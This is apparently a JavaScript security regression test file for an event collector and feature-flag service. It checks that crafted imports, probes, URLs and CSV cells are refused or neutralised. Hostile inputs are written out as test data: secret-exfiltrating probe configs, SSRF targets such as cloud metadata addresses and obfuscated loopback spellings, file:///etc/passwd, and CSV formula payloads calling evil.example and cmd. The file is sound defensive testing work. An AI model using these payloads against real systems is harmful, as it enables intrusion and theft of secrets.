// The adversarial pass, kept as regression tests: every input that crosses a trust
// boundary (a public ingest key, a config import, a probe URL, a CSV cell, a query
// parameter) is abused here, against a development collector and against one configured
// as deployed (no development hooks, no private probe targets).
import assert from 'node:assert/strict';
import { createHash } from 'node:crypto';
import { spawnSync } from 'node:child_process';
import { createServer } from 'node:http';
import { after, before, describe, test } from 'node:test';
import { PATHS, ROOT, toolEnv } from '../../scripts/toolchain.mjs';
import { Collector, makeEvent, waitFor } from './harness.mjs';

const BOOL = [{ key: 'on', value: true }, { key: 'off', value: false }];

let dev; // development hooks on, private probe targets allowed (local servers)
let prod; // as deployed: no hooks, private targets refused
const servers = [];
const received = []; // what the "attacker" and "internal" servers saw

function listen(handler) {
  return new Promise((resolve) => {
    const server = createServer(handler);
    servers.push(server);
    server.listen(0, '127.0.0.1', () => resolve(server));
  });
}

before(async () => {
  [dev, prod] = await Promise.all([Collector.start({ vars: { PROBE_SECRET_PARTNER: 'sekrit-partner-value' } }), Collector.start({ devHooks: false, vars: { COLLECTOR_HOSTS: 'collect.example.com, telltale.example.workers.dev' } })]);
});
after(async () => {
  await Promise.all([dev?.stop(), prod?.stop()]);
  for (const s of servers) s.close();
});

// The collector's content addressing, to build bundles an attacker could: canonical JSON
// (keys sorted, no whitespace) hashed with SHA-256.
function canonical(value) {
  if (Array.isArray(value)) return `[${value.map(canonical).join(',')}]`;
  if (value && typeof value === 'object') {
    return `{${Object.keys(value).sort().map((k) => `${JSON.stringify(k)}:${canonical(value[k])}`).join(',')}}`;
  }
  return JSON.stringify(value);
}
const sha256 = (text) => createHash('sha256').update(text).digest('hex');

/** A self-consistent export bundle holding `entries` ([kind, key, body]) in one commit. */
function bundle(entries) {
  const snapshot = { flags: {}, segments: {} };
  const revisions = {};
  for (const [kind, key, body] of entries) {
    const id = sha256(canonical(body));
    (snapshot[kind] ||= {})[key] = id;
    revisions[id] = { kind, key, body };
  }
  const content = { parent: null, author: 'mallory', message: 'crafted', created_at: 1795849200000, snapshot };
  const id = sha256(canonical(content));
  return {
    commit: { id, parent: null, author: 'mallory', message: 'crafted', created_at: '2026-11-29T07:00:00Z', created_at_ms: 1795849200000, snapshot },
    ancestors: [],
    revisions,
  };
}

describe('crafted experiments', () => {
  test('an imported experiment is checked as staging checks it: unknown flag, a control outside the split; nothing written', async () => {
    const app = await dev.newApp('exp-import');
    const flag = { key: 'f', variants: [{ key: 'a', value: 1 }, { key: 'b', value: 2 }], default_variant: 'a',
      rules: [{ id: 'ab', serve: { split: [{ variant: 'a', weight: 50 }, { variant: 'b', weight: 50 }] } }] };
    const experiment = (extra) => ({ key: 'x', flag: 'f', control: 'a', primary_metric: { kind: 'count', event: 'buy' }, start: '2026-12-01', ...extra });
    for (const [entries, field] of [
      [[['experiments', 'x', experiment({ flag: 'missing' })]], 'experiments/x.flag'],
      [[['flags', 'f', flag], ['experiments', 'x', experiment({ control: 'zzz' })]], 'experiments/x.control'],
      [[['flags', 'f', flag], ['experiments', 'x', experiment({ primary_metric: { kind: 'sum', event: 'buy' } })]], 'experiments/x.primary_metric.prop'],
    ]) {
      const res = await dev.config(app.id, 'POST', '/import', bundle(entries));
      assert.deepEqual([res.status, res.json.error.code], [422, 'invalid_config'], res.text);
      assert.ok(res.text.includes(field), `${field}: ${res.text}`);
    }
    assert.equal((await dev.config(app.id, 'GET', '/commits/head')).status, 404, 'nothing was written');
  });
});

describe('probes cannot carry secrets out or reach inside', () => {
  test('a probe that would send the admin key anywhere is refused, and nothing is sent', async () => {
    const attacker = await listen((req, res) => { received.push({ path: req.url, headers: req.headers }); res.end('ok'); });
    const url = `http://127.0.0.1:${attacker.address().port}/steal`;
    const app = await dev.newApp('exfil');
    const staged = await dev.config(app.id, 'PUT', '/stage/probes/steal', { url, method: 'POST', secret_headers: { 'X-Admin-Key': 'ADMIN_KEY' } });
    assert.deepEqual([staged.status, staged.json.error.code, staged.json.error.field], [422, 'secret_not_allowed', 'secret_headers.X-Admin-Key']);
    for (const secret of ['PROBE_KEY', 'DEMO_INGEST_KEY', 'ALERT_WEBHOOK_URL', 'PROBE_SECRET_', 'probe_secret_x']) {
      const res = await dev.config(app.id, 'PUT', '/stage/probes/steal', { url, secret_headers: { 'X-Key': secret } });
      assert.equal(res.status, 422, secret);
    }
    // The same probe through an import is refused too.
    const imported = await dev.config(app.id, 'POST', '/import', bundle([['probes', 'steal', { key: 'steal', url, method: 'POST', secret_headers: { 'X-Admin-Key': 'ADMIN_KEY' } }]]));
    assert.deepEqual([imported.status, imported.json.error.code], [422, 'invalid_config']);
    assert.match(imported.json.error.message, /probes\/steal\.secret_headers\.X-Admin-Key/);
    await dev.scheduled();
    assert.equal(received.filter((r) => r.path === '/steal').length, 0, 'nothing reached the listener');
    // A dedicated probe secret is allowed.
    const allowed = await dev.config(app.id, 'PUT', '/stage/probes/partner', { url, secret_headers: { 'X-Token': 'PROBE_SECRET_PARTNER' } });
    assert.equal(allowed.status, 200, allowed.text);
  });

  test('a deployed collector refuses private, loopback, link-local and its own addresses, in every spelling', async () => {
    const app = await prod.newApp('ssrf');
    const own = new URL(prod.url).host;
    for (const url of ['http://127.0.0.1:8787/x', 'http://[::1]/', 'http://2130706433/', 'http://0x7f000001/', 'http://0177.0.0.1/',
      'http://169.254.169.254/latest/meta-data/', 'http://10.1.2.3/', 'http://192.168.0.1/', 'http://localhost/',
      'http://[::ffff:127.0.0.1]/', 'http://metadata.google.internal/', `http://${own}/v1/stats`,
      'https://collect.example.com/v1/stats', 'https://TELLTALE.example.workers.dev/healthz']) {
      const res = await prod.config(app.id, 'PUT', '/stage/probes/inside', { url });
      assert.deepEqual([res.status, res.json.error.code, res.json.error.field], [422, 'target_not_allowed', 'url'], url);
    }
    assert.equal((await prod.config(app.id, 'PUT', '/stage/probes/outside', { url: 'https://partner.example/health' })).status, 200);
  });

  test('spellings a URL parser would rewrite are refused: what is checked is what is called', async () => {
    const app = await prod.newApp('spelling');
    for (const url of ['http://１２７.０.０.１:8787/fullwidth', 'http://127.0.0.\t1/tab', 'http://127.0.0.1\n:80/nl', 'http://127。0.0.1/ideo',
      'http://127.0.0.1 /space', 'http://[::ffff:0:7f00:1]/', 'http://[2002:7f00:1::]/']) {
      const res = await prod.config(app.id, 'PUT', '/stage/probes/odd', { url });
      assert.deepEqual([res.status, res.json.error.code], [422, 'target_not_allowed'], JSON.stringify(url));
    }
  });

  test('a probe follows no redirect, so its secret never reaches where a redirect points', async () => {
    const landing = [];
    const started = [];
    const b = await listen((req, res) => { landing.push(req.headers); res.end('{"status":"green"}'); });
    const a = await listen((req, res) => { started.push(req.headers); res.writeHead(302, { location: `http://127.0.0.1:${b.address().port}/landing` }).end(); });
    const app = await dev.newApp('redirect');
    await dev.publishConfig(app.id, [['probes', 'hop', { url: `http://127.0.0.1:${a.address().port}/start`, interval_s: 60, secret_headers: { 'X-Partner-Token': 'PROBE_SECRET_PARTNER' } }]]);
    await waitFor(async () => {
      await dev.scheduled();
      return (await dev.admin('GET', `/v1/apps/${app.id}/probes`)).json.probes[0].last_result;
    }, { what: 'a probe result' });
    const last = (await dev.admin('GET', `/v1/apps/${app.id}/probes`)).json.probes[0].last_result;
    assert.equal(started[0]['x-partner-token'], 'sekrit-partner-value', 'the secret goes to the probe\'s own URL');
    assert.equal(landing.length, 0, 'the redirect target was never called');
    assert.deepEqual([last.ok, last.status], [false, 302]);
  });

  test('no probe may call the runtime\'s own cron hook, not even in development', async () => {
    const app = await dev.newApp('loop');
    for (const url of [`${dev.url}/__scheduled?cron=*+*+*+*+*`, `${dev.url}/cdn-cgi/handler/scheduled`, `${dev.url}/./__scheduled`,
      `${dev.url}/x/../__scheduled`, `${dev.url}/%2e/__scheduled`, `${dev.url}/%5f%5fscheduled`]) {
      const res = await dev.config(app.id, 'PUT', '/stage/probes/loop', { url });
      assert.deepEqual([res.status, res.json.error.code], [422, 'target_not_allowed'], url);
    }
  });

  test('a failed check never stores the response body', async () => {
    const internal = await listen((req, res) => res.writeHead(200, { 'content-type': 'application/json' }).end('{"status":"red","secret":"s3cr3t-token"}'));
    const app = await dev.newApp('echo');
    await dev.publishConfig(app.id, [['probes', 'internal', { url: `http://127.0.0.1:${internal.address().port}/internal`, interval_s: 60, body_json: { pointer: '/status', equals: 'green' } }]]);
    await waitFor(async () => {
      await dev.scheduled();
      return (await dev.admin('GET', `/v1/apps/${app.id}/probes`)).json.probes[0].last_result;
    }, { what: 'a probe result' });
    const listing = await dev.admin('GET', `/v1/apps/${app.id}/probes`);
    const history = await dev.admin('GET', `/v1/apps/${app.id}/probes/internal/history`);
    assert.equal(listing.json.probes[0].last_result.error, '/status did not equal the expected value');
    assert.ok(!listing.text.includes('s3cr3t') && !history.text.includes('s3cr3t') && !history.text.includes('red'));
  });
});

describe('imports pass every check staging runs', () => {
  test('crafted bundles are refused with the entry and field named, and nothing is written', async () => {
    const app = await dev.newApp('import');
    await dev.publishConfig(app.id, [['flags', 'keep', { variants: BOOL, default_variant: 'on' }]]);
    const head = (await dev.config(app.id, 'GET', '/commits/head')).json.id;
    const flag = (key, extra = {}) => ({ key, variants: BOOL, default_variant: 'on', ...extra });
    const cases = [
      [[['probes', 'p', { key: 'p', url: 'file:///etc/passwd' }]], 'probes/p.url'],
      [[['probes', 'p', { key: 'p', url: 'https://partner.example/', timeout_ms: 600000 }]], 'probes/p.timeout_ms'],
      [[['probes', 'p', { key: 'p', url: 'https://partner.example/', interval_s: 1 }]], 'probes/p.interval_s'],
      [[['flags', 'a', flag('a', { prerequisites: [{ flag: 'b', variants: ['on'] }] })], ['flags', 'b', flag('b', { prerequisites: [{ flag: 'a', variants: ['on'] }] })]], 'flags'],
      [[['flags', 'f', flag('f', { rules: [{ segments: ['nobody'], serve: { variant: 'on' } }] })]], 'flags/f.rules[0].segments[0]'],
      [[['flags', 'f', flag('f', { requires_probe: 'ghost' })]], 'flags/f.requires_probe'],
      [[['flags', 'f', { key: 'f', variants: 'not a list', default_variant: 'on' }]], 'flags/f.variants'],
      [[['flags', '../../x', flag('../../x')]], 'flags/../../x.key'],
      [[['flags', 'shown', flag('hidden')]], 'flags/shown.key'],
    ];
    for (const [entries, field] of cases) {
      const res = await dev.config(app.id, 'POST', '/import', bundle(entries));
      assert.equal(res.status, 422, `${field}: ${res.text}`);
      assert.ok(res.json.error.details.problems.some((p) => p.field === field) || res.json.error.field === field, `${field}: ${res.text}`);
      assert.equal((await dev.config(app.id, 'GET', '/commits/head')).json.id, head, `${field}: nothing was committed`);
    }
    const huge = await dev.config(app.id, 'POST', '/import', bundle([['flags', 'big', flag('big', { description: 'x'.repeat(100_000) })]]));
    assert.deepEqual([huge.status, huge.json.error.code], [413, 'entry_too_large'], 'an entry staging would refuse as too large');
    for (const [field, value] of [['author', 'evil\u0007\u001b[31m'], ['message', 'x'.repeat(3000)], ['created_at_ms', 9007199254740993]]) {
      const crafted = bundle([['flags', 'meta', flag('meta')]]);
      crafted.commit[field] = value;
      const content = { parent: null, author: crafted.commit.author, message: crafted.commit.message, created_at: crafted.commit.created_at_ms, snapshot: crafted.commit.snapshot };
      crafted.commit.id = sha256(canonical(content));
      const res = await dev.config(app.id, 'POST', '/import', crafted);
      assert.deepEqual([res.status, res.json.error.code], [422, 'invalid_commit'], field);
    }
    const unknownKind = bundle([['flags', 'f', flag('f')]]);
    Object.values(unknownKind.revisions)[0].kind = 'widgets';
    const kind = await dev.config(app.id, 'POST', '/import', unknownKind);
    assert.equal(kind.status, 400, 'an unknown kind is bad input, not a storage failure');
    // A valid crafted bundle goes in (the checks refuse what is wrong, not what is foreign).
    assert.equal((await dev.config(app.id, 'POST', '/import', bundle([['flags', 'fine', flag('fine')]]))).status, 201);
  });
});

describe('history brought in by an import is checked before it is served', () => {
  test('publishing an imported ancestor whose probe a deployed collector refuses is a 422', async () => {
    const app = await prod.newApp('ancestor');
    const inner = bundle([['probes', 'inside', { key: 'inside', url: 'http://10.0.0.1/x' }]]);
    // The crafted commit becomes an ancestor of a harmless one.
    const child = bundle([['flags', 'f', { key: 'f', variants: BOOL, default_variant: 'on' }]]);
    const content = { parent: inner.commit.id, author: 'mallory', message: 'child', created_at: 1795849300000, snapshot: child.commit.snapshot };
    const childCommit = { id: sha256(canonical(content)), parent: inner.commit.id, author: 'mallory', message: 'child', created_at: '2026-11-29T07:01:40Z', created_at_ms: 1795849300000, snapshot: child.commit.snapshot };
    const imported = await prod.config(app.id, 'POST', '/import', { commit: childCommit, ancestors: [inner.commit], revisions: { ...inner.revisions, ...child.revisions } });
    assert.equal(imported.status, 201, imported.text);
    const pub = await prod.config(app.id, 'POST', '/publish', { commit: inner.commit.id });
    assert.deepEqual([pub.status, pub.json.error.code], [422, 'target_not_allowed']);
  });
});

describe('bad input never costs a 5xx', () => {
  test('an overlong key or app id is a 4xx, never a storage error', async () => {
    const long = `tt_ik_${'a'.repeat(600)}`;
    for (const headers of [{ Authorization: `Bearer ${long}` }, { 'X-API-Key': long }]) {
      const res = await dev.request('POST', '/v1/events', { body: { events: [] }, headers });
      assert.deepEqual([res.status, res.json.error.code], [401, 'invalid_key']);
    }
    assert.equal((await dev.request('GET', `/v1/flags/ruleset?key=${long}`)).status, 401);
    const id = 'a'.repeat(600);
    for (const path of [`/v1/admin/apps/${id}`, `/v1/apps/${id}/config/stage`, `/v1/apps/${id}/probes`, `/v1/catalog?app=${id}`, `/v1/stats?app=${id}&event=x`]) {
      assert.equal((await dev.admin('GET', path)).status, 404, path);
    }
  });

  test('evaluation refuses parameters it does not take, and repeated attributes', async () => {
    const headers = { Authorization: `Bearer ${dev.ingestKey}` };
    const post = await dev.request('POST', '/v1/flags/evaluate?foo=1', { body: { context: {} }, headers });
    assert.deepEqual([post.status, post.json.error.code], [400, 'unknown_parameter']);
    const get = await dev.request('GET', '/v1/flags/evaluate?role=a&role=b', { headers });
    assert.deepEqual([get.status, get.json.error.code], [400, 'repeated_parameter']);
  });

  test('a time at the edge of i64 is a 400, and the Worker keeps serving', async () => {
    const event = makeEvent({ name: 'edge' });
    assert.equal((await dev.ingest({ events: [event] })).status, 202);
    await dev.waitForCount('demo', 'edge', 1);
    const res = await dev.stats({ app: 'demo', event: 'edge', to: '9223372036854775807' });
    assert.deepEqual([res.status, res.json.error.field], [400, 'to']);
    assert.equal((await dev.ingest({ events: [makeEvent({ name: 'edge' })] })).status, 202, 'ingest still answers');
  });

  test('CSV cells that a spreadsheet would run are neutralised', async () => {
    const app = await dev.newApp('csv');
    const payloads = ['=HYPERLINK("http://evil.example","x")', "+cmd|' /C calc'!A0", '@SUM(1)', '-2+3', '\tTAB'];
    const res = await dev.ingest({ events: payloads.map((q) => makeEvent({ name: 'search', props: { q } })) }, { key: app.ingest_key });
    assert.equal(res.status, 202, res.text);
    await dev.waitForCount(app.id, 'search', payloads.length);
    const csv = await dev.request('GET', `/v1/stats?app=${app.id}&event=search&by=q&format=csv`, { headers: { Authorization: `Bearer ${dev.adminKey}` } });
    const cells = csv.text.trim().split('\n').slice(1).map((line) => line.replace(/^"/, ''));
    assert.equal(cells.length, payloads.length);
    for (const cell of cells) assert.ok(cell.startsWith("'"), `unneutralised cell: ${cell}`);
  });

  test('a huge `dropped` from a public key is refused and cannot break the pipeline view', async () => {
    for (let i = 0; i < 2; i++) {
      const res = await dev.ingest({ dropped: 4611686018427387904, events: [] });
      assert.deepEqual([res.status, res.json.error.field], [400, 'dropped']);
    }
    assert.equal((await dev.ingest({ dropped: 5, events: [] })).status, 202);
    const pipeline = await dev.admin('GET', '/v1/admin/pipeline');
    assert.equal(pipeline.status, 200, pipeline.text);
  });

  test('oversized and wrongly shaped bodies are 4xx', async () => {
    const app = await dev.newApp('shapes');
    const huge = { variants: BOOL, default_variant: 'on', description: 'x'.repeat(8 * 1024 * 1024) };
    const big = await dev.config(app.id, 'PUT', '/stage/flags/big', huge);
    assert.deepEqual([big.status, big.json.error.code], [413, 'body_too_large']);
    const commit = await dev.config(app.id, 'GET', `/commits/${'ab'.repeat(28)}`);
    assert.equal(commit.status, 404);
    const evaluate = await dev.request('POST', '/v1/flags/evaluate', { body: '[]', headers: { Authorization: `Bearer ${app.ingest_key}` } });
    assert.deepEqual([evaluate.status, evaluate.json.error.code], [400, 'invalid_type']);
    const publish = await dev.config(app.id, 'POST', '/publish', '[]');
    assert.equal(publish.status, 400, 'an array is not a publish request for head');
  });
});

describe('every admin endpoint refuses unknown and repeated parameters', () => {
  test('a typo never widens a query', async () => {
    const app = await dev.newApp('params');
    await dev.publishConfig(app.id, [['probes', 'p', { url: 'http://127.0.0.1:9/h', interval_s: 60 }], ['flags', 'f', { variants: BOOL, default_variant: 'on' }]]);
    const paths = [
      `/v1/apps/${app.id}/config/audit`, `/v1/apps/${app.id}/config/commits`, '/v1/admin/apps', `/v1/apps/${app.id}/probes`,
      '/v1/admin/pipeline', `/v1/apps/${app.id}/config/stage`, `/v1/catalog?app=${app.id}`, `/v1/apps/${app.id}/config/diff`,
      `/v1/apps/${app.id}/config/export`, `/v1/apps/${app.id}/probes/p/history`, `/v1/admin/apps/${app.id}`,
    ];
    for (const path of paths) {
      const sep = path.includes('?') ? '&' : '?';
      const typo = await dev.admin('GET', `${path}${sep}lmit=1`);
      assert.deepEqual([typo.status, typo.json.error.code, typo.json.error.field], [400, 'unknown_parameter', 'lmit'], path);
    }
    for (const path of [`/v1/apps/${app.id}/config/commits?limit=1&limit=2`, `/v1/catalog?app=${app.id}&app=demo`, `/v1/stats?app=demo&app=x&event=e`]) {
      const twice = await dev.admin('GET', path);
      assert.equal(twice.status, 400, path);
    }
  });
});

describe('apps', () => {
  test('deleting an app revokes its key, keeps its events, and retires its id', async () => {
    const app = await dev.newApp('doomed');
    assert.equal((await dev.ingest({ events: [makeEvent({ name: 'signup' })], dropped: 2 }, { key: app.ingest_key })).status, 202);
    await dev.waitForCount(app.id, 'signup', 1);
    await dev.publishConfig(app.id, [['flags', 'f', { variants: BOOL, default_variant: 'on' }]]);
    const del = await dev.admin('DELETE', `/v1/admin/apps/${app.id}`);
    assert.equal(del.status, 200, del.text);
    assert.equal(del.json.kept.events, 1);
    assert.equal(del.json.removed.published_config, true);
    assert.equal((await dev.ingest({ events: [makeEvent()] }, { key: app.ingest_key })).status, 401, 'the key is revoked at once');
    const flags = await dev.request('POST', '/v1/flags/evaluate', { body: { context: {} }, headers: { Authorization: `Bearer ${app.ingest_key}` } });
    assert.equal(flags.status, 401);
    assert.equal(await dev.count(app.id, 'signup'), 1, 'the events are kept');
    assert.equal((await dev.config(app.id, 'GET', '/stage')).status, 404);
    const again = await dev.admin('POST', '/v1/admin/apps', { id: app.id });
    assert.deepEqual([again.status, again.json.error.code], [409, 'app_deleted']);
    assert.ok(!(await dev.admin('GET', '/v1/admin/apps')).json.apps.some((a) => a.id === app.id));
    const audit = await dev.admin('DELETE', `/v1/admin/apps/${app.id}`);
    assert.equal(audit.status, 404);
    const demo = await dev.admin('DELETE', '/v1/admin/apps/demo');
    assert.deepEqual([demo.status, demo.json.error.code], [409, 'demo_app']);
  });

  test('a rotated key works for the overlap chosen, then not at all; origins can change', async () => {
    const app = await dev.newApp('rotate');
    const send = (key) => dev.ingest({ events: [makeEvent({ name: 'rotated' })] }, { key });
    assert.equal((await send(app.ingest_key)).status, 202);
    const bad = await dev.admin('POST', `/v1/admin/apps/${app.id}/rotate-key`, { overlap_s: 604801 });
    assert.deepEqual([bad.status, bad.json.error.field], [400, 'overlap_s']);
    const soft = await dev.admin('POST', `/v1/admin/apps/${app.id}/rotate-key`, { overlap_s: 2 });
    assert.equal(soft.status, 200, soft.text);
    const second = soft.json.app.ingest_key;
    assert.notEqual(second, app.ingest_key);
    assert.equal((await send(app.ingest_key)).status, 202, 'the old key works during the overlap');
    assert.equal((await send(second)).status, 202);
    await waitFor(async () => (await send(app.ingest_key)).status === 401, { timeoutMs: 10_000, what: 'the overlap to end' });
    const hard = await dev.admin('POST', `/v1/admin/apps/${app.id}/rotate-key`, { overlap_s: 0 });
    assert.equal((await send(second)).status, 401, 'no overlap: the old key is refused at once');
    assert.equal((await send(hard.json.app.ingest_key)).status, 202);
    const patched = await dev.admin('PATCH', `/v1/admin/apps/${app.id}`, { allowed_origins: ['https://new.example'] });
    assert.deepEqual(patched.json.allowed_origins, ['https://new.example']);
    const origin = await dev.ingest({ events: [makeEvent()] }, { key: hard.json.app.ingest_key, headers: { Origin: 'https://old.example' } });
    assert.equal(origin.status, 403, 'the new origins apply at once');
    const badOrigin = await dev.admin('PATCH', `/v1/admin/apps/${app.id}`, { allowed_origins: ['https://x.example/path'] });
    assert.deepEqual([badOrigin.status, badOrigin.json.error.field], [400, 'allowed_origins[0]']);
    for (const [method, path, body] of [['POST', '/v1/admin/apps', { id: 'named-badly', name: 'evil\u0007\u001b[2J' }],
      ['PATCH', `/v1/admin/apps/${app.id}`, { name: 'x'.repeat(129) }]]) {
      const res = await dev.admin(method, path, body);
      assert.deepEqual([res.status, res.json.error.field], [400, 'name'], `${method} ${path}`);
    }
    const audit = await dev.config(app.id, 'GET', '/audit?action=app.rotate_key');
    assert.equal(audit.json.entries.length, 2);
    assert.ok(!JSON.stringify(audit.json).includes(app.ingest_key), 'the audit log never holds a whole key');
  });

  test('client-drop reports of one named app can be cleared; no app named is not "all"', async () => {
    const app = await dev.newApp('drops');
    assert.equal((await dev.ingest({ dropped: 7, events: [] }, { key: app.ingest_key })).status, 202);
    await waitFor(async () => (await dev.admin('GET', '/v1/admin/pipeline')).json.client_dropped[app.id] === 7, { what: 'the drop report' });
    assert.deepEqual((await dev.admin('DELETE', '/v1/admin/pipeline/client-drops')).status, 400);
    assert.deepEqual((await dev.admin('DELETE', '/v1/admin/pipeline/client-drops?app=nope')).status, 404);
    const cleared = await dev.admin('DELETE', `/v1/admin/pipeline/client-drops?app=${app.id}`);
    assert.deepEqual([cleared.status, cleared.json.removed_reports], [200, 1]);
    assert.equal((await dev.admin('GET', '/v1/admin/pipeline')).json.client_dropped[app.id], undefined);
  });
});

describe('development hooks are inert when deployed', () => {
  test('fault switches planted in KV change nothing, and the hook endpoints do not exist', async () => {
    // Plant the fault keys the hooks would read, straight into the collector's local KV.
    for (const key of ['fault:d1', 'fault:queue']) {
      const put = spawnSync(PATHS.node22, [PATHS.wrangler, 'kv', 'key', 'put', key, 'on', '--binding', 'KV', '--local', '--persist-to', prod.dir],
        { cwd: ROOT, env: toolEnv({ CI: 'true' }), encoding: 'utf8' });
      assert.equal(put.status, 0, put.stderr);
    }
    const event = makeEvent({ name: 'inert' });
    assert.equal((await prod.ingest({ events: [event] })).status, 202);
    await prod.waitForCount('demo', 'inert', 1);
    assert.equal((await prod.admin('GET', '/v1/admin/pipeline')).json.spooled_parts, 0, 'stored directly, not spooled');
    assert.equal((await prod.admin('GET', '/v1/admin/faults')).status, 404);
    const overrides = await prod.request('POST', '/v1/flags/evaluate', { body: { context: {}, now: 0 }, headers: { Authorization: `Bearer ${prod.ingestKey}` } });
    assert.deepEqual([overrides.status, overrides.json.error.code], [400, 'overrides_disabled']);
  });

  test('fault injection validates a request whole before writing any of it', async () => {
    const bad = await dev.admin('PUT', '/v1/admin/faults', { d1: true, queue: true, ingest: [500, 418] });
    assert.deepEqual([bad.status, bad.json.error.field], [400, 'ingest[1]']);
    const now = await dev.admin('GET', '/v1/admin/faults');
    assert.deepEqual(now.json, { d1: false, queue: false, ingest: [] }, 'nothing was switched on');
  });
});
